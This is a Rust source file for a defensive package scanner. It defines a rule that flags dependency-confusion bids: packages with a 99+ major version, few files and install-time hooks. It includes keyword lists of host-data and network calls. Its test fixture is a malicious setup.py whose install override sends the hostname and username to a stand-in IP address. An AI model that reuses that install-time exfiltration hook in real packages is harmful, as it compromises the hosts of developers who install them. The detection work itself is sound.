use crate::archive::{EntryType, Kind};
use crate::declare_rule;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Role, Severity};

declare_rule! {
    /// ## What it does
    /// Flags a huge major version (99 and up, but not a calendar version such
    /// as `2024.1` or `20240101`). Alone that is `low`; on a tiny project (a
    /// handful of files) it is `medium`; on a tiny project that also runs code
    /// at install time (`setup.py` overriding install commands or collecting
    /// host data, a `.pth` file) it is `high`.
    ///
    /// ## Why is this bad?
    /// Dependency confusion: an attacker publishes the name of a company's
    /// private package on the public index with a version higher than any real
    /// one (`99.0.0`, `9999.0`), so that pip, given several indexes, prefers it.
    /// The payload is an install-time script that reports the host to the attacker.
    ///
    /// ## Example
    /// `acme-billing-internal-9999.0.0.tar.gz` holding only `PKG-INFO` and a
    /// `setup.py` with `cmdclass={"install": Collect}` that sends
    /// `socket.gethostname()` and `getpass.getuser()` home.
    ///
    /// ## False positives
    /// Projects that really reached version 100 (browser-driver builds);
    /// they have many files and no install hook, so they stay `low`.
    DependencyConfusion, id = "dependency-confusion", severity = High,
    summary = "a 99+ major version on a tiny project with an install-time script"
}

/// A project with at most this many files counts as tiny.
const TINY: usize = 12;

impl Rule for DependencyConfusion {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        let Some(version) = analysis.version.as_deref() else {
            return;
        };
        let Some(major) = confusion_major(version) else {
            return;
        };
        let files = analysis
            .listing
            .members
            .iter()
            .filter(|m| m.entry == EntryType::File)
            .count();
        let hook = install_hook(analysis);
        let (severity, why) = match (&hook, files <= TINY) {
            (Some((path, what)), true) => (Severity::High, format!(", {files} files and {what} in {path}")),
            (None, true) => (Severity::Medium, format!(" and only {files} files")),
            _ => (Severity::Low, String::new()),
        };
        out.push(Finding {
            stage: None,
            rule: Self::META.id,
            severity,
            file: hook
                .map(|(path, _)| path)
                .or_else(|| analysis.metadata.as_ref().map(|(p, _)| p.clone())),
            line: None,
            message: format!("version {version} (major {major}) looks like a dependency-confusion bid{why}"),
            snippet: None,
        });
    }
}

/// The major version when it is 99 or more and not a calendar version.
pub fn confusion_major(version: &str) -> Option<u64> {
    let v = version.trim();
    let v = v.strip_prefix(['v', 'V']).unwrap_or(v);
    let v = v.split_once('!').map_or(v, |(_, rest)| rest); // epoch
    let digits: String = v.chars().take_while(char::is_ascii_digit).collect();
    let major: u64 = digits.parse().ok()?;
    let calendar = (1970..=2100).contains(&major)
        || (digits.len() == 6 && (197_001..=210_012).contains(&major))
        || (digits.len() == 8 && (19_700_101..=21_001_231).contains(&major));
    (major >= 99 && !calendar).then_some(major)
}

const HOST_DATA: &[&str] = &[
    "gethostname",
    "getuser",
    "getlogin",
    "platform.node",
    "uname",
    "getfqdn",
    "os.environ",
    "getcwd",
];
const NETWORK: &[&str] = &[
    "urlopen",
    "requests.",
    "http.client",
    "httplib",
    "socket.socket",
    "create_connection",
    "gethostbyname",
    "nslookup",
    "curl ",
    "wget ",
];

/// The install-time code of the artifact, if any: a `setup.py` overriding
/// install commands or sending host data over the network, or a `.pth` file
/// that imports something.
fn install_hook(analysis: &Analysis) -> Option<(String, &'static str)> {
    analysis.listing.members.iter().find_map(|m| {
        if m.entry != EntryType::File {
            return None;
        }
        let role = Role::of(&m.path, analysis.kind);
        // Only install scripts and `.pth` files are read: decoding every member
        // (wheels of native libraries) cost a few percent of a scan.
        if !matches!(role, Role::SetupScript | Role::Pth) {
            return None;
        }
        let text = crate::inspect::lossy(&m.data);
        match role {
            Role::SetupScript if analysis.kind != Kind::Wheel => {
                let collects = HOST_DATA.iter().any(|p| text.contains(p)) && NETWORK.iter().any(|p| text.contains(p));
                if collects {
                    Some((m.path.clone(), "an install script that sends host data"))
                } else if text.contains("cmdclass") {
                    Some((m.path.clone(), "an install script overriding setup commands"))
                } else {
                    None
                }
            }
            Role::Pth if text.lines().any(|l| l.trim_start().starts_with("import")) => {
                Some((m.path.clone(), "a .pth file run at every start-up"))
            }
            _ => None,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::rules::artifact_fixture::{findings, Artifact};

    const COLLECT: &str = "import socket, getpass, urllib.request\nfrom setuptools import setup\n\
        from setuptools.command.install import install\nclass Collect(install):\n    def run(self):\n        \
        urllib.request.urlopen('http://203.0.113.9/?h=' + socket.gethostname() + getpass.getuser())\n\
        setup(name='acme-billing-internal', version='9999.0.0', cmdclass={'install': Collect})\n";

    #[test]
    fn fires_on() {
        // Error: the textbook bid (issue 4, dependency confusion).
        let a = Artifact::sdist("acme-billing-internal", "9999.0.0").with_file("setup.py", COLLECT);
        let f = findings(&a, "dependency-confusion");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::High);
        assert!(f[0].message.contains("sends host data"), "{}", f[0].message);
        // Error: a bare 99.x on a tiny project, no hook: medium.
        let f = findings(&Artifact::wheel("acme-core", "99.0.1"), "dependency-confusion");
        assert_eq!(f[0].severity, Severity::Medium);
    }

    #[test]
    fn quiet_on() {
        // No error: calendar versions and ordinary ones.
        for v in ["2024.1.1", "20240101", "202401", "1.2.3", "98.0"] {
            assert_eq!(confusion_major(v), None, "{v}");
        }
        assert_eq!(confusion_major("v999.0"), Some(999));
        assert!(findings(&Artifact::sdist("widgetlib", "2024.3.1"), "dependency-confusion").is_empty());
        // Weak: a big project at version 130 (driver builds) stays low.
        let mut a = Artifact::wheel("browser-driver-binary", "130.0.1");
        for i in 0..20 {
            a = a.with_file(&format!("browser_driver_binary/m{i}.py"), "x = 1\n");
        }
        assert_eq!(findings(&a, "dependency-confusion")[0].severity, Severity::Low);
    }
}
